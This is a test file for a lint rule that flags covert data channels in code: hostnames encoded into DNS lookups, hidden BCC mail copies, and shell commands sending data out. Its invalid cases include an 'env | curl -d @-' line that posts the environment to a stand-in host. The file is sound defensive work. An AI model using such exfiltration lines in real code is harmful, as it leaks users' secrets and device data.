import rule from '../../rules/no-covert-channel.ts';
import { inProject, tester } from '../support/tester.ts';

const filename = inProject('covert');
const dns = (name: string): string => `require('node:dns').lookup(${name}, () => {})`;
const host = "require('node:os').hostname()";
const mail = (bcc: string): string => `require('nodemailer').createTransport({ host: 'mail.example.com' }).sendMail({ to, bcc: ${bcc} })`;

tester.run('no-covert-channel', rule, {
  assertionOptions: { requireMessage: 'messageId', requireLocation: true },
  valid: [
    { name: 'data in a name whose entry declares it', filename, code: dns(`${host} + '.beacons.example.com'`) },
    { name: 'a name without data', filename, code: dns("tenant + '.zone.example.com'") },
    { name: 'a picture of a declared host', filename, code: 'new Image().src = `https://pictures.example.com/?a=${navigator.userAgent}`' },
    { name: 'a name that is only called like a datum', filename, code: "export const f = (user: { email: string }) => require('node:dns').lookup(user.email + '.c.example.invalid', () => {})" },
    { name: 'a program that sends to what its own files say', filename, code: "require('node:child_process').execSync('git push origin ' + require('node:os').userInfo().username)" },
    { name: 'the content of a file in a command line', filename, code: "require('node:child_process').execSync('curl https://c.example.invalid/' + require('node:fs').readFileSync('VERSION', 'utf8'))" },
    { name: 'a request, which is a client', filename, code: `fetch('https://other.example.com', { method: 'POST', body: ${host} })` },
    { name: 'what an encoder makes of a text', filename, code: dns("Buffer.from('fixed').toString('hex') + '.c.example.invalid'") },
    { name: 'an encoder in a declared zone', filename, code: dns("chunk.toString('hex') + '.zone.example.com'") },
    { name: 'a declared copy', filename, code: mail("'a@archive.example.com'") },
    { name: 'a copy to whom a caller says', filename, code: mail('who') },
    { name: 'a copy that everybody sees', filename, code: mail("undefined, cc: 'a@c.example.invalid'") },
  ],
  invalid: [
    {
      name: 'data in a name that nothing declares', filename, code: dns(`${host} + '.c.example.invalid'`),
      errors: [{ messageId: 'undeclared', data: { api: 'dns.lookup', via: '', data: 'os.hostname() (user.device)', to: 'dns://*.c.example.invalid', by: 'by a DNS name', path: 'src/example.ts:1' }, line: 1, column: 1, endLine: 1, endColumn: 91 }],
    },
    {
      name: 'data in a name whose entry declares none', filename, code: dns(`${host} + '.zone.example.com'`),
      errors: [{ messageId: 'unnamed', data: { api: 'dns.lookup', via: '', data: 'os.hostname() (user.device)', to: 'dns://*.zone.example.com', by: 'by a DNS name', path: 'src/example.ts:1', endpoint: 'zones' }, line: 1, column: 1, endLine: 1, endColumn: 90 }],
    },
    {
      name: 'a name that an encoder makes', filename, code: dns("chunk.toString('hex') + '.c.example.invalid'"),
      errors: [{ messageId: 'encoded', data: { api: 'dns.lookup', via: '', to: 'dns://*.c.example.invalid' }, line: 1, column: 1, endLine: 1, endColumn: 83 }],
    },
    {
      name: 'a copy that nobody sees', filename, code: mail("['a@archive.example.com', 'b@c.example.invalid']"),
      errors: [{ messageId: 'copied', data: { api: 'Transporter.sendMail', via: '', to: 'mailto://c.example.invalid' }, line: 1, column: 1, endLine: 1, endColumn: 140 }],
    },
    {
      name: 'the environment in a command line', filename, code: "require('node:child_process').exec('env | curl -d @- https://c.example.invalid')",
      errors: [{ messageId: 'undeclared', line: 1, column: 1, endLine: 1, endColumn: 81 }],
    },
  ],
});
